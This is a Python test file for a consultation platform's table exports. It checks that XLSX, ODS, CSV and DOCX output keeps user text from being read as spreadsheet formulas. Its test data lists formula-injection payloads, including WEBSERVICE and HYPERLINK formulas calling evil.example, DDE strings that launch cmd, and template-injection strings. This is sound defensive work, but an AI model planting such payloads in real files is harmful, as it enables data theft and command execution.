"""Whatever a spreadsheet might take for a formula is a text in every table that leaves."""

import csv
import io
import os
import shutil
import subprocess
import zipfile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from consultation.cells import guarded, unguarded
from consultation.exports import FORMATS
from consultation.exports.comment_table import TABLE_FORMATS
from consultation.exports.xlsx import render_xlsx
from consultation.imports.comment_table import read_comment_table
from consultation.queries.contributions.comment_table import TableRow
from tests.exports import packs

FORMULAS = (
    "=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example")', '=IMPORTXML("http://evil.example","//a")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "==1", "=", " =1+1", "\t=1+1", "\n=1+1", "one\n=1+1",
    "'=1+1",
    '"=1+1', '"=1+1"', ";=1+1", ",=1+1", "\uff1d1+1", "+1+1", "+49 30 1234", "-1+1", "-5", "- item",
    "--1", "@SUM(A1)", "@user", "\uff0b1", "\uff0d1", "\uff201", "{=1+1}", "%0A=1+1", "1-2", "1/2",
    "00123", "1e5", "TRUE", "#REF!", "12345678901234567890", "2027-04-12",
)  # fmt: skip


def cells(raw: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(raw))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_there_are_thirty_of_them():
    assert len(set(FORMULAS)) == len(FORMULAS) >= 30


def test_the_plenary_workbook_holds_them_as_texts():
    """trust.md 43 and 44."""
    themes = tuple(packs.theme(text, quotes=(packs.quote(text),)) for text in FORMULAS)
    found = cells(render_xlsx(packs.pack(packs.question(themes=themes))))
    assert {cell.data_type for cell in found} <= {"s", "n"}
    assert [cell for cell in found if cell.hyperlink] == []
    assert {cell.value for cell in found} >= set(FORMULAS)


def comment_rows(texts=FORMULAS) -> list[TableRow]:
    return [
        TableRow(comment=text, proposed=text, row_id=f"question|Q{number}|1|0")
        for number, text in enumerate(texts)
    ]


@pytest.mark.parametrize("form", TABLE_FORMATS)
def test_the_comment_table_holds_them_as_texts_and_gives_them_back(form):
    """trust.md 43 to 45."""
    raw = TABLE_FORMATS[form].render(comment_rows(), "=1+1")
    back = read_comment_table(raw, name=f"table.{form}")
    assert [(filled.row.comment, filled.row.proposed) for filled in back] == [
        (text, text) for text in FORMULAS
    ]


def test_no_cell_of_the_comment_table_is_anything_but_a_text():
    """trust.md 44."""
    found = cells(TABLE_FORMATS["xlsx"].render(comment_rows(), "=1+1"))
    assert {cell.data_type for cell in found if cell.value is not None} == {"s"}
    assert [cell for cell in found if cell.hyperlink] == []
    sheet = ods_content(TABLE_FORMATS["ods"].render(comment_rows(), "=1+1"))
    assert kinds_of_cells(sheet) == {"string"}
    assert (formulas_in(sheet), links_in(sheet)) == ([], [])


ODF = "urn:oasis:names:tc:opendocument:xmlns:"
OFFICE, TABLE, TEXT = (f"{{{ODF}{name}:1.0}}" for name in ("office", "table", "text"))


def ods_content(raw: bytes):
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return etree.fromstring(archive.read("content.xml"))


def kinds_of_cells(sheet) -> set[str]:
    return {cell.get(f"{OFFICE}value-type") for cell in sheet.iter(f"{TABLE}table-cell")} - {None}


def formulas_in(sheet) -> list[str]:
    found = [cell.get(f"{TABLE}formula") for cell in sheet.iter(f"{TABLE}table-cell")]
    return [formula for formula in found if formula is not None]


def links_in(sheet) -> list:
    return list(sheet.iter(f"{TEXT}a"))


def as_libreoffice_saves_it(raw: bytes, form: str, folder, *reading: str, to="ods") -> bytes:
    """A table opened by LibreOffice, which works out what it takes for a formula, and saved.

    `to` is the form that it is saved in, with the filter's options where it has some.
    """
    soffice = shutil.which("soffice")
    if soffice is None:
        assert not os.environ.get("CI"), "CI must have LibreOffice"
        pytest.skip("no soffice here")
    source = folder / f"table.{form}"
    source.write_bytes(raw)
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    command = [soffice, profile, "--headless", "--convert-to", to, *reading]
    subprocess.run(
        [*command, "--outdir", folder / "saved", source],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    return (folder / "saved" / f"table.{to.partition(':')[0]}").read_bytes()


UTF_8 = 76
"""What LibreOffice calls it, after the codes of the separator and of the quotation mark."""


@pytest.mark.parametrize(
    ("form", "reading"),
    [
        ("xlsx", ()),
        ("ods", ()),
        ("csv", ()),
        ("csv", (f"--infilter=CSV:44,34,{UTF_8}",)),
        ("csv", (f"--infilter=CSV:59,34,{UTF_8}",)),
        ("csv", (f"--infilter=CSV:9,34,{UTF_8}",)),
    ],
    ids=["xlsx", "ods", "csv as it opens it", "csv", "csv at semicolons", "csv at tabs"],
)
def test_libreoffice_finds_no_formula_in_the_comment_table(tmp_path, form, reading):
    """trust.md 43 and 44."""
    raw = TABLE_FORMATS[form].render(comment_rows(), "=1+1")
    sheet = ods_content(as_libreoffice_saves_it(raw, form, tmp_path, *reading))
    assert len(list(sheet.iter(f"{TABLE}table-row"))) > len(FORMULAS) / 2
    assert (formulas_in(sheet), links_in(sheet)) == ([], [])


def test_without_the_apostrophes_libreoffice_would_find_some(tmp_path):
    """The control: what is looked for above can be found."""
    lines = "".join(f'"{text}"\r\n' for text in FORMULAS if '"' not in text)
    raw = as_libreoffice_saves_it(lines.encode("utf-8-sig"), "csv", tmp_path)
    assert "of:=SUM([.A1:.A9])" in formulas_in(ods_content(raw))


@pytest.mark.parametrize("form", ["xlsx", "ods"])
def test_saved_by_libreoffice_the_comment_table_comes_back_as_it_was(tmp_path, form):
    texts = (*FORMULAS, "a\tb  c", "two\n\nlines \n", "  spaces  ")
    if form == "ods":  # LibreOffice loses the tabs of several lines in an XLSX file.
        texts = (*texts, "a\tb  c\n\nd ", "two\n\ttabbed\n")
    raw = TABLE_FORMATS[form].render(comment_rows(texts), "Comments")
    back = read_comment_table(as_libreoffice_saves_it(raw, form, tmp_path), name="saved.ods")
    assert [filled.row for filled in back] == comment_rows(texts)


@given(st.text() | st.text("'\"=+-@;, \t\r\n\ufeff\uff1d1x", max_size=8))
def test_an_apostrophe_that_guards_is_taken_off_and_no_other(text):
    """trust.md 43: reversible, for any text."""
    assert unguarded(guarded(text)) == text
    if "'" not in text:
        assert guarded(text).replace("'", "") == text


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_the_csv_begins_as_a_formula_does(text):
    """trust.md 43."""
    raw = TABLE_FORMATS["csv"].render(comment_rows([text]), "")
    assert raw.startswith("\ufeff".encode()), "Excel knows UTF-8 by its mark"
    _, record = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    signs = tuple("=+-@\t\uff1d\uff0b\uff0d\uff20")
    assert [line for line in record[5].split("\n") if line.lstrip(' ";,').startswith(signs)] == []


def test_a_table_of_five_thousand_rows_leaves_whole():
    """trust.md 45."""
    odd = '<font color="red">{{7*7}}</font> \\input{secret} '
    rows = [TableRow(comment=f"{odd}{n}", row_id=f"question|Q{n}|1|0") for n in range(5_000)]
    raw = TABLE_FORMATS["docx"].render(rows, "Long")
    with zipfile.ZipFile(io.BytesIO(raw)) as document:
        tree = etree.fromstring(document.read("word/document.xml"))
    word = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    found = ["".join(row.itertext(f"{word}t")) for row in tree.iter(f"{word}tr")]
    assert [row for row in found if odd in row] == found[-5_000:]
    assert all(f"{odd}{n}" in row for n, row in enumerate(found[-5_000:]))


def test_tables_leave_in_no_form_but_those_looked_at_here():
    """trust.md 43 and 44: one more would be seen here."""
    assert set(FORMATS) == {"docx", "pdf", "html", "odt", "pptx", "xlsx", "csv.zip", "json"}
    assert set(TABLE_FORMATS) == {"xlsx", "ods", "csv", "docx"}
